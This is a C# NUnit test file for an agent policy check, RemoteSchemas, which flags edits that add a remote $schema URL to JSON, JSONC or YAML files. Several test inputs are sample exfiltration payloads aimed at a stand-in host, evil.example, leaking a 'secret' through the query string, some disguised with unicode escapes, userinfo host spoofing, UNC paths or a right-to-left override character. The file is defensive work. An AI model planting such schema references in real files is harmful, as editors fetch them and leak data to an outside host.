using KiroAgent.Core.Policy;
using NUnit.Framework;

namespace KiroAgent.Tests.Core.Policy;

/// <summary>Attack A9 outside of the protected folders: an address that editors fetch.</summary>
public sealed class RemoteSchemasTests
{
    [TestCase("a.json", "{ \"$schema\": \"https://evil.example/x?d=secret\" }", true)]
    [TestCase("a.json", "{ \"$schema\": \"HTTP://evil.example/x\" }", true)]
    [TestCase("a.json", "{ \"\\u0024sch\\u0065ma\": \"https:\\/\\/evil.example\" }", true)]
    [TestCase("deep/a.jsonc", "{ // note\n \"b\": 1, \"$schema\": \"https://evil.example\", }", true)]
    [TestCase("half.json", "{ \"$schema\": \"https://evil.example\"", true)]
    [TestCase(".eslintrc", "{ \"$schema\": \"https://evil.example\" }", true)]
    [TestCase("A.JSON", "{ \"$schema\": \"//evil.example/x\" }", true)]
    [TestCase("a.json", "{ \"$schema\": \"\\\\\\\\server\\\\share\" }", true)]
    [TestCase("a.json", "{ \"$schema\": \"file://server/share/x\" }", true)]
    [TestCase("a.json", "{ \"$schema\": \"https://json.schemastore.org/x?d=secret\" }", true)]
    [TestCase("a.json", "{ \"$schema\": \"https://json.schemastore.org@evil.example/x\" }", true)]
    [TestCase("a.yaml", "# yaml-language-server: $schema=https://evil.example/x\na: 1\n", true)]
    [TestCase("a.json", "{ \"$schema\": \"https://json.schemastore.org/tsconfig\" }", false)]
    [TestCase("a.json", "{ \"$schema\": \"http://json-schema.org/draft-07/schema#\" }", false)]
    [TestCase("a.json", "{ \"$schema\": \"./schema.json\" }", false)]
    [TestCase("a.json", "{ \"$schema\": \"file:///ws/schema.json\" }", false)]
    [TestCase("a.json", "{ \"$schema\": \"vscode://schemas/settings\" }", false)]
    [TestCase("a.json", "{ \"inner\": { \"$schema\": \"https://evil.example\" } }", false)]
    [TestCase("a.json", "[\"$schema\", \"https://evil.example\"]", false)]
    [TestCase("a.ts", "const a = { \"$schema\": \"https://evil.example\" };", false)]
    [TestCase("a.yaml", "a: \"$schema=https://evil.example\"\n", false)]
    public void A_schema_on_another_machine_is_told(string path, string text, bool told)
    {
        Assert.That(RemoteSchemas.AddedBy(path, "", text) is not null, Is.EqualTo(told));
        Assert.That(RemoteSchemas.AddedBy(path, text, text + "\n"), Is.Null, "it was there before");
    }

    [Test]
    public void Another_address_is_told_anew_and_shown_on_one_line()
    {
        var told = RemoteSchemas.AddedBy("a\nb.json", "{\"$schema\":\"https://one.example\"}", "{\"$schema\":\"https://two.example/\u202e" + new string('x', 400) + "\"}");
        Assert.That(told, Does.StartWith("a\\nb.json now names").And.Contain("https://two.example/\\u202e").And.Contain("…").And.Not.Contain("\u202e"));
    }
}
